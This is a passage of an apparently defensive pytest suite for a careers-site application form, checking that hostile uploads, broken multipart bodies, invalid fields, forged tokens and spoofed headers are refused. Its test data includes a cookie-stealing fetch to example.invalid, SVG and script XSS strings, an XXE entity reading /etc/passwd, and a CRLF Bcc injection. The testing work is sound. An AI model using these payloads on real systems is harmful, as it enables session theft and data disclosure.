"""A hostile regression suite (docs/security.md): files, multipart bodies, fields,
anti-forgery, replays, headers and slow clients, each case with its exact status.

Every case ends in `assert_unharmed`: nothing stored (outbox and spool empty), nothing
forwarded to Personio (the sandbox saw no application and no document) and the server still
healthy (`/healthz` and a job page answer 200). The few replay cases whose first post is a
legitimate application assert that exactly that one is stored, and nothing else.

One refusal per case and a fresh app per case: refusals count against a client's budget
(10 in 10 minutes), which would turn later cases into 429. The cases against a real
gunicorn share one server and give each case its own client address (X-Forwarded-For, which
the app believes from loopback only).
"""

from __future__ import annotations

import os
import random
import socket
import subprocess
import time
from collections.abc import Callable, Iterator
from functools import partial
from io import BytesIO
from pathlib import Path

import httpx
import jinja2
import lxml.html
import pytest
from itsdangerous import TimestampSigner, URLSafeTimedSerializer

from careers import create_app
from careers.sandbox.recruiting import DEFAULT_ATTRIBUTES, DEFAULT_RATE_LIMIT
from careers.sandbox.sample_data import sample_feeds

from . import filegen
from .applying import JOB, apply_env, open_form, send, token_of, valid_fields
from .apps import SECRET
from .servers import eventually, read_status, start_slow_app

ROOT = Path(__file__).resolve().parents[1]
OTHER_JOB = 1842907  # Hamburg too, another position of the sample board
PUBLIC = "https://jobs.nordlicht.example"
EVIL = "evil.example"
BOUNDARY = "----HostileSuiteBoundary0123456789"
MULTIPART = f"multipart/form-data; boundary={BOUNDARY}"
CV = "cv.pdf"

# --- the one check every case ends with -------------------------------------------------------


def assert_unharmed(
    app, sandbox, client, *, applications: int = 0, kept_files: int = 0, settle: float = 0.0
) -> None:
    """(2) nothing stored and no spooled file left, (3) nothing forwarded to Personio,
    (4) the server answers `/healthz` and a job page with 200.

    `client` is whatever serves the app (a Flask test client, or an httpx client for a real
    gunicorn, whose data directory `app` reads). `applications`/`kept_files` are only for
    the replay cases whose first, legitimate post is stored; `settle` lets another process
    finish removing a spooled file after it answered.
    """
    svc = app.extensions["careers"]
    spool = svc.spool

    def spool_as_expected() -> bool:
        return (
            list(spool.incoming.iterdir()) == [] and len(list(spool.stored.iterdir())) == kept_files
        )

    assert len(svc.outbox.summaries()) == applications, svc.outbox.summaries()
    assert eventually(spool_as_expected, settle), (
        list(spool.incoming.iterdir()),
        list(spool.stored.iterdir()),
    )
    assert sandbox.received_applications == [] and sandbox.received_documents == {}
    assert client.get("/healthz").status_code == 200
    assert client.get("/en/jobs").status_code == 200


# --- fixtures and ways to post ----------------------------------------------------------------


class _SharedBytecode(jinja2.BytecodeCache):
    """Templates compiled once for the whole module, not once per fresh app (keyed by name
    and source checksum, so nothing but the compile time is shared)."""

    def __init__(self) -> None:
        self.store: dict[str, bytes] = {}

    def load_bytecode(self, bucket: jinja2.bccache.Bucket) -> None:
        if bucket.key in self.store:
            bucket.bytecode_from_string(self.store[bucket.key])

    def dump_bytecode(self, bucket: jinja2.bccache.Bucket) -> None:
        self.store[bucket.key] = bucket.bytecode_to_string()


_BYTECODE = _SharedBytecode()


@pytest.fixture
def fresh_app(make_app, sandbox_server, tmp_path) -> Callable[..., object]:
    """A new app taking applications (CAREERS_* overrides as keywords): one per case, so
    no case spends another's refusal budget."""

    def make(**overrides: str):
        app = make_app(**apply_env(sandbox_server.url, tmp_path, **overrides))
        app.jinja_env.bytecode_cache = _BYTECODE
        return app

    return make


@pytest.fixture
def app(fresh_app):
    return fresh_app()


@pytest.fixture
def public_app(fresh_app):
    return fresh_app(public_url=PUBLIC)


@pytest.fixture
def files(tmp_path) -> Path:
    folder = tmp_path / "files"
    folder.mkdir()
    return folder


@pytest.fixture
def cv(files) -> Path:
    return filegen.make_pdf(files / "cv.pdf")


def _bytes(value: str | bytes) -> bytes:
    return value.encode() if isinstance(value, str) else value


def part(disposition: str | bytes, data: str | bytes = b"", headers: str | bytes = b"") -> bytes:
    """One multipart part as browsers write it."""
    return (
        b"--" + BOUNDARY.encode() + b"\r\nContent-Disposition: " + _bytes(disposition) + b"\r\n"
        + _bytes(headers) + b"\r\n" + _bytes(data) + b"\r\n"
    )  # fmt: skip


def field(name: str, value: str | bytes) -> bytes:
    return part(f'form-data; name="{name}"', value)


def upload(name: str, filename: str, data: bytes, content_type: str = "application/pdf") -> bytes:
    return part(
        f'form-data; name="{name}"; filename="{filename}"',
        data,
        f"Content-Type: {content_type}\r\n",
    )


def multipart(*parts: bytes) -> bytes:
    return b"".join(parts) + b"--" + BOUNDARY.encode() + b"--\r\n"


def form_parts(token: str, **changes: str | None) -> list[bytes]:
    """The form's fields in the order it renders them: the token first, the honeypot next."""
    return [field(k, v) for k, v in valid_fields(token, **changes).items()]


def post_raw(
    client,
    body: bytes,
    content_type: str = MULTIPART,
    *,
    job: int = JOB,
    lang: str = "en",
    path: str | None = None,
    headers: dict[str, str] | None = None,
    content_length: int | None = None,
    **kwargs,
):
    """POST exactly these bytes (with a Content-Length of our choosing) to the form."""
    # The test client measures the stream for CONTENT_LENGTH; a lie has to be set directly.
    length = len(body) if content_length is None else content_length
    return client.post(
        path or f"/{lang}/jobs/{job}/apply",
        input_stream=BytesIO(body),
        content_type=content_type,
        headers=headers or {},
        environ_overrides={"CONTENT_LENGTH": str(length)},
        **kwargs,
    )


def errors_of(response) -> list[str]:
    """The links of the error summary at the top of a refused form."""
    doc = lxml.html.fromstring(response.get_data(as_text=True))
    return [a.get("href") for a in doc.xpath("//*[@id='error-summary']//a")]


def good_body(client, cv: Path) -> bytes:
    """A complete, valid form with a CV: what the multipart cases break."""
    return multipart(*form_parts(open_form(client)), upload("cv", CV, cv.read_bytes()))


# --- a real gunicorn ---------------------------------------------------------------------------


class Gunicorn:
    """`tests/slow_app.py` under gunicorn (gthread, as `careers serve` runs it) with tight
    slow-body limits; `app` is an app of our own on the same data directory, to look at the
    outbox and the spool."""

    def __init__(self, base: str, app, proc: subprocess.Popen) -> None:
        self.base, self.app, self.proc = base, app, proc
        self.host, port = base.removeprefix("http://").split(":")
        self.port = int(port)
        self._clients = 0

    def client_address(self) -> str:
        """A fresh client address for each case: its own refusal budget."""
        self._clients += 1
        return f"198.51.100.{self._clients}"

    def token(self) -> str:
        return token_of(httpx.get(f"{self.base}/en/jobs/{JOB}/apply", timeout=10).text)

    def connect(self) -> socket.socket:
        return socket.create_connection((self.host, self.port), timeout=30)

    def head(self, body_headers: str, path: str = f"/en/jobs/{JOB}/apply") -> bytes:
        return (
            f"POST {path} HTTP/1.1\r\nHost: {self.host}:{self.port}\r\n"
            f"X-Forwarded-For: {self.client_address()}\r\n{body_headers}\r\n"
        ).encode()


@pytest.fixture(scope="module")
def gunicorn(sandbox_server, tmp_path_factory) -> Iterator[Gunicorn]:
    sb = sandbox_server.sandbox  # as the `sandbox` fixture leaves it, before the first case
    sb.rearm()
    sb.clear_faults()
    sb.set_rate_limit(DEFAULT_RATE_LIMIT)
    sb.set_attributes(DEFAULT_ATTRIBUTES)
    for lang, positions in sample_feeds().items():
        sb.set_positions(lang, positions)
    folder = tmp_path_factory.mktemp("gunicorn")
    settings = {f"CAREERS_{k.upper()}": v for k, v in apply_env(sandbox_server.url, folder).items()}
    settings |= {
        "CAREERS_PERSONIO_FEED_URL": f"{sandbox_server.url}/xml",
        "CAREERS_SECRET_KEY": SECRET,
        "CAREERS_DATA_DIR": str(folder / "data"),
        "CAREERS_COMPANY_NAME": "Nordlicht Robotics",
    }
    env = {k: v for k, v in os.environ.items() if not k.startswith("CAREERS_")}
    # A stall after 1.5 s; below 20 kB/s once a second has passed.
    env |= settings | {
        "TEST_STALL_SECONDS": "1.5",
        "TEST_MIN_RATE": "20000",
        "TEST_RATE_GRACE": "1",
    }
    proc, base = start_slow_app(env)
    observer = None
    try:
        observer = create_app(settings)
        yield Gunicorn(base, observer, proc)
    finally:
        proc.terminate()
        proc.wait(timeout=10)
        if observer is not None:
            observer.extensions["careers"].catalogue.wait_idle()
            observer.extensions["careers"].feed_client.close()


@pytest.fixture
def served(gunicorn) -> Iterator[httpx.Client]:
    """An HTTP client of the gunicorn for the health checks."""
    with httpx.Client(base_url=gunicorn.base, timeout=10) as client:
        yield client


def _send_all(sock: socket.socket, data: bytes) -> None:
    """Send what the server still reads; it may answer and close before the end."""
    try:
        sock.sendall(data)
    except OSError:
        pass


def _big_form(gunicorn: Gunicorn, tmp_path: Path, token: str | None = None) -> bytes:
    """A valid form (or one with `token`) with a 440 kB CV, in our boundary."""
    padded = filegen.make_pdf(tmp_path / "big.pdf", text="Experience " * 40_000)
    return multipart(*form_parts(token or gunicorn.token()), upload("cv", CV, padded.read_bytes()))


def _chunked(body: bytes, size: int = 65536) -> bytes:
    out = bytearray()
    for start in range(0, len(body), size):
        piece = body[start : start + size]
        out += b"%x\r\n" % len(piece) + piece + b"\r\n"
    return bytes(out + b"0\r\n\r\n")


# --- files ------------------------------------------------------------------------------------


def make_svg(path: Path) -> Path:
    path.write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><text>CV</text></svg>'
    )
    return path


def make_js(path: Path) -> Path:
    path.write_text("fetch('https://example.invalid/?c=' + document.cookie);\n")
    return path


def make_docx_xxe(path: Path) -> Path:
    types = (
        '<?xml version="1.0"?><!DOCTYPE Types [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">&e;</Types>'
    )
    return filegen.make_docx_with_content_types(path, types=types.encode())


# id, builder, the name the browser reports: each refused with 422 (docs/security.md, Uploads)
HOSTILE_FILES = [
    ("elf-as-pdf", filegen.make_elf, "cv.pdf"),
    ("elf-as-docx", filegen.make_elf, "cv.docx"),
    ("pe-as-pdf", filegen.make_pe, "cv.pdf"),
    ("pe-as-docx", filegen.make_pe, "Anschreiben.docx"),
    ("pe-as-jpg", filegen.make_pe, "photo.jpg"),
    ("script-as-txt", filegen.make_shell_script, "notes.txt"),
    ("script-as-pdf", filegen.make_shell_script, "cv.pdf"),
    ("html-as-pdf", filegen.make_html, "cv.pdf"),
    ("html-as-txt", filegen.make_html, "cv.txt"),  # text, but HTML: refused by content
    ("html-as-csv", filegen.make_html, "cv.csv"),
    ("html-as-png", filegen.make_html, "photo.png"),
    ("pdf-lookalike", filegen.make_pdf_lookalike, "cv.pdf"),
    ("html-pdf-polyglot", filegen.make_html_pdf_polyglot, "cv.pdf"),
    ("pdf-header-html-eof", filegen.make_pdf_shell, "cv.pdf"),
    ("pdf-header-script-eof", partial(filegen.make_pdf_shell, kind="sh"), "cv.pdf"),
    ("pdf-startxref-into-html", filegen.make_pdf_fake_startxref, "cv.pdf"),
    ("rar4-signature-html", filegen.make_rar_html, "cv.rar"),
    ("rar5-signature-html", partial(filegen.make_rar_html, version=5), "cv.rar"),
    ("docm-as-docx", filegen.make_docm_as_docx, "cv.docx"),
    ("docm-vba-part-renamed", filegen.make_docm_renamed_part, "cv.docx"),
    ("xlsm-as-xlsx", partial(filegen.make_macro_enabled, kind="xlsx"), "cv.xlsx"),
    ("pptm-as-pptx", partial(filegen.make_macro_enabled, kind="pptx"), "cv.pptx"),
    ("ole-doc-with-macros", filegen.make_doc_with_macros, "cv.doc"),
    ("ole-xls-with-macros", filegen.make_xls_with_macros, "cv.xls"),
    (
        "ole-vba-storage-elsewhere",
        partial(filegen.make_doc_with_macros, storage="ObjectPool"),
        "cv.doc",
    ),
    # A zip bomb under .zip is forwarded as it came (docs/security.md "Zip bombs"): not here.
    ("zip-bomb-as-docx", filegen.make_zip_bomb, "cv.docx"),
    ("plain-zip-as-docx", filegen.make_plain_zip_as_docx, "cv.docx"),
    ("sfx-exe-as-zip", filegen.make_sfx_zip, "cv.zip"),
    ("zip-10001-entries", partial(filegen.make_zip_many_entries, count=10_001), "cv.zip"),
    ("docx-content-types-xxe", make_docx_xxe, "cv.docx"),
    ("docx-content-types-twice", filegen.make_docx_twice_typed, "cv.docx"),
    ("binary-after-64k-as-txt", filegen.make_binary_txt, "cv.txt"),
    ("empty", filegen.make_empty, "cv.pdf"),
    # Extensions Personio does not take, whatever the content.
    ("pe-as-exe", filegen.make_pe, "setup.exe"),
    ("pdf-as-exe", filegen.make_pdf, "cv.exe"),
    ("double-extension", filegen.make_pdf, "cv.pdf.exe"),
    ("rlo-disguised-exe", filegen.make_pe, "cv\u202efdp.exe"),
    ("svg", make_svg, "cv.svg"),
    ("html", filegen.make_html, "cv.html"),
    ("js", make_js, "cv.js"),
    ("sh", filegen.make_shell_script, "install.sh"),
    ("docm", filegen.make_docm_as_docx, "cv.docm"),
    ("no-extension", filegen.make_pdf, "Lebenslauf"),
]


class TestFiles:
    @pytest.mark.parametrize(
        ("build", "name"), [c[1:] for c in HOSTILE_FILES], ids=[c[0] for c in HOSTILE_FILES]
    )
    def test_a_hostile_file_is_refused(self, app, client, sandbox, files, build, name):
        path = build(files / "upload.bin")
        response = send(client, valid_fields(open_form(client)), [("cv", path, name)])
        assert response.status_code == 422
        assert errors_of(response) == ["#file-cv"]
        assert_unharmed(app, sandbox, client)

    def test_a_hostile_file_beside_a_good_one_keeps_neither(self, app, client, sandbox, cv, files):
        elf = filegen.make_elf(files / "letter.bin")
        uploads = [("cv", cv, CV), ("cover-letter", elf, "Anschreiben.pdf")]
        response = send(client, valid_fields(open_form(client)), uploads)
        assert response.status_code == 422
        assert errors_of(response) == ["#file-cover-letter"]
        assert_unharmed(app, sandbox, client)

    @pytest.mark.parametrize(
        "sizes",
        [[20_000_001], [100] * 11, [16_000_001] * 4],
        ids=["20MB-plus-one-byte", "11-files", "64MB-in-all-plus"],
    )
    def test_too_much_is_413(self, app, client, sandbox, files, sizes):
        uploads = []
        for i, size in enumerate(sizes):
            path = filegen.make_pdf(files / f"f{i}.pdf")
            with path.open("ab") as handle:
                handle.truncate(size)
            uploads.append(("cv", path, f"f{i}.pdf"))
        response = send(client, valid_fields(open_form(client)), uploads)
        assert response.status_code == 413
        assert_unharmed(app, sandbox, client)


# --- multipart --------------------------------------------------------------------------------


def _no_closing_boundary(client, cv):
    return good_body(client, cv)[: -len(f"--{BOUNDARY}--\r\n")]


def _cut_in_the_file(client, cv):
    body = good_body(client, cv)
    return body[: body.index(b"%%EOF")]


def _many_parts(client, cv):
    extra = [field(f"x{i}", "1") for i in range(70)]
    return multipart(*form_parts(open_form(client)), *extra)  # 11 + 70 = 81 parts


def _with(*extra: bytes):
    """The valid form with `extra` parts between its fields and the CV."""

    def body(client, cv):
        return multipart(*form_parts(open_form(client)), *extra, upload("cv", CV, cv.read_bytes()))

    return body


# id, body builder, Content-Type, status
MULTIPART_CASES = [
    ("garbage-body", lambda c, cv: random.Random(7).randbytes(4096), MULTIPART, 400),
    ("empty-body", lambda c, cv: b"", MULTIPART, 400),
    ("only-a-preamble", lambda c, cv: b"hello\r\n" * 100, MULTIPART, 400),
    ("no-closing-boundary", _no_closing_boundary, MULTIPART, 400),
    ("cut-in-the-file", _cut_in_the_file, MULTIPART, 400),
    ("other-boundary-in-body", lambda c, cv: good_body(c, cv), MULTIPART + "X", 400),
    ("no-boundary", lambda c, cv: good_body(c, cv), "multipart/form-data", 400),
    ("empty-boundary", lambda c, cv: good_body(c, cv), "multipart/form-data; boundary=", 400),
    (
        "boundary-201-chars",
        lambda c, cv: good_body(c, cv),
        "multipart/form-data; boundary=" + "b" * 201,
        400,
    ),
    ("part-without-name", _with(part('form-data; filename="x.pdf"', b"%PDF-1.4")), MULTIPART, 400),
    ("part-not-form-data", _with(part('attachment; name="cv"', b"x")), MULTIPART, 400),
    (
        "part-without-disposition",
        _with(b"--" + BOUNDARY.encode() + b"\r\nX-A: b\r\n\r\nx\r\n"),
        MULTIPART,
        400,
    ),
    (
        "header-line-without-colon",
        _with(b"--" + BOUNDARY.encode() + b"\r\nnonsense\r\n\r\nx\r\n"),
        MULTIPART,
        400,
    ),
    (
        "part-with-20-headers",
        _with(part('form-data; name="x"', b"1", "".join(f"X-H{i}: v\r\n" for i in range(20)))),
        MULTIPART,
        400,
    ),
    ("non-utf8-field", _with(field("message", "Grüße".encode("latin-1"))), MULTIPART, 400),
    pytest.param(
        _with(part('form-data; name="x"', b"1", "X-Pad: " + "a" * 9000 + "\r\n")),
        MULTIPART,
        413,
        id="part-header-9KiB",
    ),
    ("field-over-64KiB", _with(field("message", "y" * 70_000)), MULTIPART, 413),
    ("81-parts", _many_parts, MULTIPART, 413),
]
MULTIPART_PARAMS = [
    pytest.param(*c[1:], id=c[0]) if isinstance(c[0], str) else c for c in MULTIPART_CASES
]


class TestMultipart:
    @pytest.mark.parametrize(("build", "content_type", "status"), MULTIPART_PARAMS)
    def test_a_broken_body_is_refused(self, app, client, sandbox, cv, build, content_type, status):
        response = post_raw(client, build(client, cv), content_type)
        assert response.status_code == status
        assert_unharmed(app, sandbox, client)

    @pytest.mark.parametrize(
        ("delta", "status"),
        [(-500, 400), (+500, 400)],
        ids=["content-length-smaller", "content-length-larger"],
    )
    def test_a_lying_content_length(self, app, client, sandbox, cv, delta, status):
        body = good_body(client, cv)
        response = post_raw(client, body, content_length=len(body) + delta)
        assert response.status_code == status
        assert_unharmed(app, sandbox, client)

    def test_a_body_announced_over_66MB_is_413_unread(self, app, client, sandbox, cv):
        response = post_raw(client, good_body(client, cv), content_length=70_000_000)
        assert response.status_code == 413
        assert_unharmed(app, sandbox, client)

    def test_a_chunked_body_without_length_is_refused(self, app, client, sandbox, cv):
        # Without a server that decodes chunks, the app sees no body at all: truncated.
        response = client.post(
            f"/en/jobs/{JOB}/apply",
            input_stream=BytesIO(good_body(client, cv)),
            content_type=MULTIPART,
            headers={"Transfer-Encoding": "chunked"},
        )
        assert response.status_code == 400
        assert_unharmed(app, sandbox, client)

    # Bodies only a real server carries: chunked transfer coding, decoded by gunicorn.
    @pytest.mark.system
    def test_a_chunked_forged_post_is_403(self, gunicorn, served, sandbox, tmp_path):
        body = _big_form(gunicorn, tmp_path, token="forged")
        with gunicorn.connect() as sock:
            sock.sendall(
                gunicorn.head(f"Content-Type: {MULTIPART}\r\nTransfer-Encoding: chunked\r\n")
            )
            _send_all(sock, _chunked(body))
            assert read_status(sock) == 403
        assert_unharmed(gunicorn.app, sandbox, served, settle=5)

    @pytest.mark.system
    def test_a_chunked_body_with_a_broken_chunk_size_is_400(
        self, gunicorn, served, sandbox, tmp_path
    ):
        body = _big_form(gunicorn, tmp_path)
        broken = _chunked(body[:65536]).removesuffix(b"0\r\n\r\n") + b"zz\r\n" + body[65536:]
        with gunicorn.connect() as sock:
            sock.sendall(
                gunicorn.head(f"Content-Type: {MULTIPART}\r\nTransfer-Encoding: chunked\r\n")
            )
            _send_all(sock, broken)
            assert read_status(sock) == 400
        assert_unharmed(gunicorn.app, sandbox, served, settle=5)

    @pytest.mark.system
    def test_a_chunked_file_over_20MB_is_413(self, gunicorn, served, sandbox, tmp_path):
        big = bytes(21_000_000)
        body = multipart(*form_parts(gunicorn.token()), upload("cv", CV, big))
        with gunicorn.connect() as sock:
            sock.sendall(
                gunicorn.head(f"Content-Type: {MULTIPART}\r\nTransfer-Encoding: chunked\r\n")
            )
            _send_all(sock, _chunked(body, 1 << 20))
            assert read_status(sock) == 413
        assert_unharmed(gunicorn.app, sandbox, served, settle=5)


# --- fields -----------------------------------------------------------------------------------

FIELD_CASES = [
    # every required field missing in turn
    ("missing-first_name", {"first_name": None}),
    ("missing-last_name", {"last_name": None}),
    ("missing-email", {"email": None}),
    ("missing-select", {"custom_attribute_1002": None}),
    ("missing-consent", {"consent": None}),
    ("consent-no", {"consent": "no"}),
    # too long
    ("first_name-256", {"first_name": "x" * 256}),
    ("last_name-256", {"last_name": "x" * 256}),
    ("email-over-254", {"email": "a" * 64 + "@" + ("b" * 63 + ".") * 3 + "de"}),
    ("phone-61", {"phone": "1" * 61}),
    ("message-10001", {"message": "y" * 10_001}),
    # email variants
    ("email-ip-literal", {"email": "a@[127.0.0.1]"}),
    ("email-markup", {"email": "<svg/onload=alert(1)>@x.de"}),
    ("email-display-name", {"email": "Anna <anna@example.com>"}),
    ("email-quoted-local", {"email": '"anna maria"@example.com'}),
    ("email-localhost", {"email": "anna@localhost"}),
    ("email-special-use", {"email": "anna@example.test"}),
    ("email-non-ascii-local", {"email": "jürgen@müller.de"}),
    ("email-bidi-control", {"email": "juergen.mueller@example.com\u202e"}),
    ("email-underscore-domain", {"email": "a@b_c.de"}),
    ("email-two-ats", {"email": "anna@@example.com"}),
    ("email-crlf-header", {"email": "anna@example.com\r\nBcc: all@example.com"}),
    # dates
    ("birthday-german-format", {"birthday": "30.04.1990"}),
    ("birthday-no-such-day", {"birthday": "1990-02-30"}),
    ("birthday-in-future", {"birthday": "2999-01-01"}),
    ("birthday-before-1900", {"birthday": "1899-12-31"}),
    ("birthday-fullwidth-digits", {"birthday": "１９９０-０４-３０"}),
    ("birthday-with-time", {"birthday": "1990-04-30T00:00"}),
    # options
    ("select-not-an-option", {"custom_attribute_1002": "newspaper"}),
    ("select-label-not-value", {"custom_attribute_1002": "LinkedIn"}),
    ("gender-not-an-option", {"gender": "robot"}),
    ("phone-words", {"phone": "call me maybe"}),
    ("phone-markup", {"phone": "<script>alert(1)</script>"}),
    # control and invisible characters only: nothing is left of the name
    ("first_name-control-characters", {"first_name": "\x00\x07\x1b\x7f\x9b"}),
    ("last_name-zero-width", {"last_name": "\u200b\u2060\ufeff"}),
    ("first_name-hangul-filler", {"first_name": "\u3164\u3164"}),
]


class TestFields:
    @pytest.mark.parametrize(
        "changes", [c[1] for c in FIELD_CASES], ids=[c[0] for c in FIELD_CASES]
    )
    def test_an_invalid_field_is_422(self, app, client, sandbox, cv, changes):
        response = send(client, valid_fields(open_form(client), **changes), [("cv", cv, CV)])
        assert response.status_code == 422
        [name] = changes
        assert errors_of(response) == [f"#field-{name}"]
        assert_unharmed(app, sandbox, client)

    def test_a_missing_cv_is_422(self, app, client, sandbox):
        response = send(client, valid_fields(open_form(client)))
        assert response.status_code == 422
        assert errors_of(response) == ["#file-cv"]
        assert_unharmed(app, sandbox, client)

    @pytest.mark.parametrize("category", ["work-sample", "employment-reference"])
    def test_a_file_under_a_hidden_document_input_is_422(
        self, app, client, sandbox, cv, files, category
    ):
        sample = filegen.make_pdf(files / "sample.pdf")
        uploads = [("cv", cv, CV), (category, sample, "sample.pdf")]
        response = send(client, valid_fields(open_form(client)), uploads)
        assert response.status_code == 422
        assert_unharmed(app, sandbox, client)


# --- anti-forgery -----------------------------------------------------------------------------


SPAM = "could not accept this submission"  # and not a word on why


class _Yesterday(TimestampSigner):
    """Signs as if it were 25 hours ago: a form left open longer than TOKEN_MAX_AGE."""

    def get_timestamp(self) -> int:
        return int(time.time()) - 25 * 3600


def _signed(payload: dict, *, secret: str = SECRET, salt: str = "careers.apply-form", signer=None):
    kwargs = {"signer": signer} if signer else {}
    return URLSafeTimedSerializer(secret, salt=salt, **kwargs).dumps(payload)


def _payload(job: int = JOB, lang: str = "en") -> dict:
    return {"p": job, "l": lang, "t": round(time.time() - 60, 3), "n": "hostile-nonce-1"}


def _flip_signature(token: str) -> str:
    """Change one character inside the signature. Not the last: base64's last character
    carries padding bits, and two characters that differ only there decode alike."""
    head, _, signature = token.rpartition(".")
    middle = len(signature) // 2
    flipped = "A" if signature[middle] != "A" else "B"
    return f"{head}.{signature[:middle]}{flipped}{signature[middle + 1 :]}"


# id, token maker (client -> token), status
TOKEN_CASES = [
    ("empty", lambda c: "", 403),
    ("garbage", lambda c: "garbage", 403),
    ("over-512-chars", lambda c: open_form(c) + "x" * 600, 403),
    ("signature-flipped", lambda c: _flip_signature(open_form(c)), 403),
    ("other-secret", lambda c: _signed(_payload(), secret="not-our-secret-0123456789abcdef"), 403),
    ("other-salt", lambda c: _signed(_payload(), salt="careers.attribution"), 403),
    ("other-position", lambda c: open_form(c, job=OTHER_JOB), 403),
    ("other-language", lambda c: open_form(c, lang="de"), 403),
    ("expired", lambda c: _signed(_payload(), signer=_Yesterday), 422),  # "send it again"
]

ORIGIN_CASES = [
    ("sec-fetch-cross-site", {"Sec-Fetch-Site": "cross-site"}),
    ("sec-fetch-same-site", {"Sec-Fetch-Site": "same-site"}),
    ("foreign-origin", {"Origin": "https://evil.example"}),
    ("lookalike-origin", {"Origin": "http://localhost.evil.example"}),
    ("other-port-origin", {"Origin": "http://localhost:8080"}),
    ("other-scheme-origin", {"Origin": "https://localhost"}),
    ("null-origin", {"Origin": "null"}),
    ("null-origin-cross-site", {"Origin": "null", "Sec-Fetch-Site": "cross-site"}),
    ("own-origin-cross-site", {"Origin": "http://localhost", "Sec-Fetch-Site": "cross-site"}),
]


class TestAntiForgery:
    @pytest.mark.parametrize(
        ("make_token", "status"),
        [c[1:] for c in TOKEN_CASES],
        ids=[c[0] for c in TOKEN_CASES],
    )
    def test_a_bad_token(self, app, client, sandbox, cv, make_token, status):
        response = send(client, valid_fields(make_token(client)), [("cv", cv, CV)])
        assert response.status_code == status
        if status == 422:
            assert "open for a long time" in response.get_data(as_text=True)
        assert_unharmed(app, sandbox, client)

    def test_no_token_field_at_all(self, app, client, sandbox, cv):
        response = send(client, valid_fields("", form_token=None), [("cv", cv, CV)])
        assert response.status_code == 403
        assert_unharmed(app, sandbox, client)

    @pytest.mark.parametrize(
        "category",
        [
            "cv",
            "work-sample",
        ],
    )
    def test_a_file_before_the_token(self, app, client, sandbox, cv, category):
        token = open_form(client)
        body = multipart(upload(category, CV, cv.read_bytes()), *form_parts(token))
        assert post_raw(client, body).status_code == 403
        assert_unharmed(app, sandbox, client)

    @pytest.mark.parametrize(
        "headers", [c[1] for c in ORIGIN_CASES], ids=[c[0] for c in ORIGIN_CASES]
    )
    def test_a_cross_site_post(self, app, client, sandbox, cv, headers):
        fields = valid_fields(open_form(client))
        assert send(client, fields, [("cv", cv, CV)], headers=headers).status_code == 403
        assert_unharmed(app, sandbox, client)

    def test_the_honeypot_filled(self, app, client, sandbox, cv):
        fields = valid_fields(open_form(client), website="https://spam.example")
        response = send(client, fields, [("cv", cv, CV)])
        assert response.status_code == 422 and SPAM in response.get_data(as_text=True)
        assert_unharmed(app, sandbox, client)

    def test_the_honeypot_filled_in_a_second_field_of_its_name(self, app, client, sandbox, cv):
        token = open_form(client)
        body = multipart(*form_parts(token), field("website", "spam"), upload("cv", CV, b"x"))
        response = post_raw(client, body)
        assert response.status_code == 422 and SPAM in response.get_data(as_text=True)
        assert_unharmed(app, sandbox, client)

    def test_sent_too_fast(self, fresh_app, sandbox, cv):
        app = fresh_app(min_fill_seconds="30")
        client = app.test_client()
        response = send(client, valid_fields(open_form(client)), [("cv", cv, CV)])
        # Perhaps a quick human: asked to check and send again, never told why, the CV kept
        # for an hour (careers/db/kept.py), nothing stored or sent.
        text = response.get_data(as_text=True)
        assert response.status_code == 422 and "send your application again" in text
        assert "fast" not in text
        assert len(list(app.extensions["careers"].spool.kept.iterdir())) == 1
        assert_unharmed(app, sandbox, client)

    def test_a_spent_refusal_budget_is_429_before_the_body(self, app, client, sandbox, cv):
        for _ in range(10):
            assert send(client, valid_fields("forged"), [("cv", cv, CV)]).status_code == 403
        response = send(client, valid_fields(open_form(client)), [("cv", cv, CV)])
        assert response.status_code == 429 and int(response.headers["Retry-After"]) > 0
        assert_unharmed(app, sandbox, client)


# --- replays ----------------------------------------------------------------------------------


class TestReplays:
    """Here the first post is a real application, so exactly one is stored (with its CV)."""

    @pytest.mark.parametrize(
        "changes",
        [{"last_name": "Byron"}, {"email": "someone.else@example.com"}, {"message": "Anders."}],
        ids=["other-name", "other-email", "other-message"],
    )
    def test_the_same_form_with_other_details_is_409(self, app, client, sandbox, cv, changes):
        token = open_form(client)
        assert send(client, valid_fields(token), [("cv", cv, CV)]).status_code == 303
        again = send(client, valid_fields(token, **changes), [("cv", cv, CV)])
        assert again.status_code == 409
        assert_unharmed(app, sandbox, client, applications=1, kept_files=1)

    def test_the_same_form_with_another_cv_is_409(self, app, client, sandbox, cv, files):
        token = open_form(client)
        assert send(client, valid_fields(token), [("cv", cv, CV)]).status_code == 303
        other = filegen.make_pdf(files / "other.pdf", text="Ganz anderer Lebenslauf")
        assert send(client, valid_fields(token), [("cv", other, CV)]).status_code == 409
        assert_unharmed(app, sandbox, client, applications=1, kept_files=1)

    def test_a_sent_form_replayed_to_another_position_is_403(self, app, client, sandbox, cv):
        token = open_form(client)
        assert send(client, valid_fields(token), [("cv", cv, CV)]).status_code == 303
        replay = send(client, valid_fields(token), [("cv", cv, CV)], job=OTHER_JOB)
        assert replay.status_code == 403
        assert_unharmed(app, sandbox, client, applications=1, kept_files=1)

    def test_a_form_for_one_position_posted_to_another_is_403(self, app, client, sandbox, cv):
        token = open_form(client, job=JOB)
        response = send(client, valid_fields(token), [("cv", cv, CV)], job=OTHER_JOB, lang="de")
        assert response.status_code == 403
        assert_unharmed(app, sandbox, client)

    def test_a_form_posted_to_a_position_that_never_was_is_404(self, app, client, sandbox, cv):
        token = open_form(client)
        assert send(client, valid_fields(token), [("cv", cv, CV)], job=999).status_code == 404
        assert_unharmed(app, sandbox, client)

    def test_a_second_form_beyond_the_submit_rate_is_429(self, fresh_app, sandbox, cv):
        app = fresh_app(submit_rate_limit="1/600")
        client = app.test_client()
        assert send(client, valid_fields(open_form(client)), [("cv", cv, CV)]).status_code == 303
        fields = valid_fields(open_form(client), email="second@example.com")
        assert send(client, fields, [("cv", cv, CV)]).status_code == 429
        assert_unharmed(app, sandbox, client, applications=1, kept_files=1)


# --- headers ----------------------------------------------------------------------------------

EVIL_HOSTS = {
    "Host": EVIL,
    "X-Forwarded-Host": EVIL,
    "X-Forwarded-Server": EVIL,
    "X-Forwarded-Proto": "http",
    "Forwarded": f"for=203.0.113.7;host={EVIL};proto=http",
}


def assert_no_evil(response) -> None:
    for name, value in response.headers.items():
        assert EVIL not in value.lower(), (name, value)
    assert EVIL.encode() not in response.get_data().lower()


class TestHeaders:
    @pytest.mark.parametrize(
        "headers",
